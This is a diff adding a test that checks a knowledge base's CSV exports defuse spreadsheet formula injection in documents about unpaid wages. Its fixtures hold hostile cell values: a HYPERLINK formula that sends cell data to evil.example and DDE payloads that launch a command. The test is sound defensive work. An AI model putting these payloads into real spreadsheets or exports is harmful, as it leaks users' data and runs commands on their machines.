@@ -103,6 +103,31 @@ def test_markdown_export_quotes_document_markup_as_text(dlc_kb):
     assert "\\<script\\>" in markdown
 
 
+def test_csv_cells_from_documents_never_start_a_formula(tmp_path):
+    """OWASP's CSV injection: a title or passage opening with = + - @ (or tab, CR) is written as text."""
+    docs = tmp_path / "docs"
+    docs.mkdir()
+    hostile = {"link.txt": '=HYPERLINK("http://evil.example/?d="&A1,"点击查看工资标准")\n拖欠工资的用人单位依法查处。',
+               "dde.txt": "@SUM(1+1)*cmd|' /C calc'!A0 工资通知\n拖欠工资的,劳动者可以申请支付令。",
+               "minus.txt": "-2+3+cmd|' /C calc'!A0 欠薪\n拖欠工资应当依法支付。",
+               "plus.md": "# +86 工资 热线\n拖欠工资可以拨打热线。",
+               "wide.txt": "＝1+1 全角等号的工资通知\n拖欠工资的处理。"}  # NFKC makes ＝ an ASCII =
+    for name, text in hostile.items():
+        (docs / name).write_text(text, encoding="utf-8")
+    kb = KnowledgeBase(None, FakeEmbedder())
+    kb.ingest([docs])
+    hits = kb.search("拖欠工资", k=10)
+    assert len(hits) == 5
+    exported = [hits_to_csv(hits), places_to_csv(group_by_place(hits))]
+    for text in exported:
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    rows = list(csv.DictReader(io.StringIO(exported[0])))
+    assert {row["title"] for row in rows} == {"'" + hit.title for hit in hits}  # every title is hostile
+    assert {row["text"] for row in rows} == {("'" if hit.doc_id != "docs/plus.md" else "") + hit.text for hit in hits}
+    assert all(float(row["score"]) == round(hit.score, 6) for row, hit in zip(rows, hits))
+
+
 def test_uploads_stay_in_the_folder_and_bad_ones_are_refused(tmp_path):
     folder = tmp_path / "uploads"
     data = "关于根治欠薪的通知\n用人单位应当按时足额支付工资。".encode()
